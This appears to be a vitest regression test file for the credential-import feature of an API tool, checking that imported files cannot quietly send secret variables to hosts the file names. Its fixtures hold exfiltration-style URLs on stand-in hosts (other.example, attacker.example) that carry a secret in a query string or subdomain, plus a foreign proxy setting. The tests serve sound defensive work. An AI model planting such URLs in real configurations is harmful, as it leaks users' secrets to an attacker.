// Regression (issue 13, finding 2): an import file wrote its credentials at once; their
// `{{variables}}` then sent the person's secret variables wherever the file said.
import { describe, expect, it } from 'vitest';
import { emptyAuthConfig, emptyTestRequest } from '../../src/lib/config/auth-config';
import { assertConfirmedHosts } from '../../src/lib/config/confirmed-hosts';
import { CREDENTIAL_FILE_FORMAT } from '../../src/lib/config/credential-file';
import type { Variable } from '../../src/lib/config/variables';
import { planImport, withoutRiskySettings } from '../../src/lib/state/library/transfer';
import { decryptJson, newDeviceKey } from '../../src/lib/store/vault';

const variables: Variable[] = [
  { name: 'prod_secret', value: 'prodsecret42', secret: true },
  { name: 'api', value: 'https://api.example.com', secret: false },
];

function file(...urls: string[]): string {
  return JSON.stringify({
    format: CREDENTIAL_FILE_FORMAT,
    version: 1,
    exportedAt: '',
    credentials: urls.map((url, i) => ({ id: `c${i}`, name: `Credential ${i + 1}`, description: '', auth: emptyAuthConfig(), testRequest: { ...emptyTestRequest(), url } })),
    environments: [],
  });
}

describe('planImport: what the import confirmation shows', () => {
  it('names every credential, host and variable (secret ones marked), and writes nothing', async () => {
    const plan = await planImport(file('https://other.example/collect?v={{prod_secret}}', '{{api}}/me', 'https://{{prod_secret}}.attacker.example/'), '', null, [], 0, variables);
    expect(plan.review).toEqual({
      names: ['Credential 1', 'Credential 2', 'Credential 3'],
      hosts: ['other.example', 'api.example.com'],
      unclear: ['https://{{prod_secret}}.attacker.example/'],
      variables: ['prod_secret', 'api'],
      secretVariables: ['prod_secret'],
      risky: [],
    });
    expect(JSON.stringify(plan)).not.toContain('prodsecret42');
  });

  it('each credential carries the hosts of its own settings as confirmed', async () => {
    const plan = await planImport(file('https://other.example/collect?v={{prod_secret}}', 'https://{{prod_secret}}.attacker.example/'), '', null, [], 0, variables);
    const [listed, made] = plan.credentials.map((record) => ({ record, settings: { auth: record.auth, testRequest: record.testRequest } }));
    expect(listed!.record.confirmed).toEqual({ from: 'import', hosts: ['other.example'], urls: { testUrl: 'https://other.example/collect?v={{prod_secret}}' } });
    const outgoing = (s: typeof listed) => ({ fields: ['testUrl'] as const, carries: s!.settings.testRequest });
    expect(() => assertConfirmedHosts(listed!.record.confirmed, listed!.settings, variables, outgoing(listed))).not.toThrow();
    expect(() => assertConfirmedHosts(made!.record.confirmed, made!.settings, variables, outgoing(made))).toThrow(/came from an import file/);
  });
});

// Issue 13, part 2: a file exported before the fix may hold secret-looking rows in clear.
describe('planImport: secret-looking rows of an older file', () => {
  it('are stored encrypted, not in clear; importing them needs the vault open', async () => {
    const text = JSON.stringify({
      ...JSON.parse(file('https://api.example.com/')),
      credentials: [{ id: 'c0', name: 'Old', description: '', auth: { ...emptyAuthConfig(), oauth2: { ...emptyAuthConfig().oauth2, extraParams: [{ key: 'client_assertion', value: 'eyJ-clear' }] } }, testRequest: emptyTestRequest() }],
    });
    const key = await newDeviceKey();
    const [record] = (await planImport(text, '', key, [], 0)).credentials;
    expect(record!.auth.oauth2.extraParams).toEqual([{ key: 'client_assertion', value: '' }]);
    expect(await decryptJson(key, record!.secrets!)).toEqual({ 'oauth2.extraParams:client_assertion': 'eyJ-clear' });
    await expect(planImport(text, '', null, [], 0)).rejects.toMatchObject({ code: 'secrets_locked' });
  });
});

// Regression (issue 13, finding 12): an import kept a foreign proxy and plain http without a word.
describe('planImport: settings a share link refuses', () => {
  it('lists a proxy (with its URL) and plain http per credential; withoutRiskySettings turns them off', async () => {
    const auth = { ...emptyAuthConfig(), allowInsecureHttp: true, proxy: { enabled: true, url: 'http://198.51.100.7:8787', token: '' } };
    const text = JSON.stringify({ ...JSON.parse(file('https://api.example.com/')), credentials: [{ id: 'c0', name: 'Proxied', description: '', auth, testRequest: emptyTestRequest() }] });
    const plan = await planImport(text, '', null, [], 0);
    expect(plan.review.risky).toEqual(['Proxied: sends through the proxy at http://198.51.100.7:8787, allows plain http to hosts that are not loopback']);
    const [off] = withoutRiskySettings(plan.credentials);
    expect(off!.auth.proxy).toEqual({ enabled: false, url: 'http://198.51.100.7:8787', token: '' });
    expect(off!.auth.allowInsecureHttp).toBe(false);
    expect(plan.credentials[0]!.auth.proxy.enabled).toBe(true); // the plan itself is left as read
  });
});
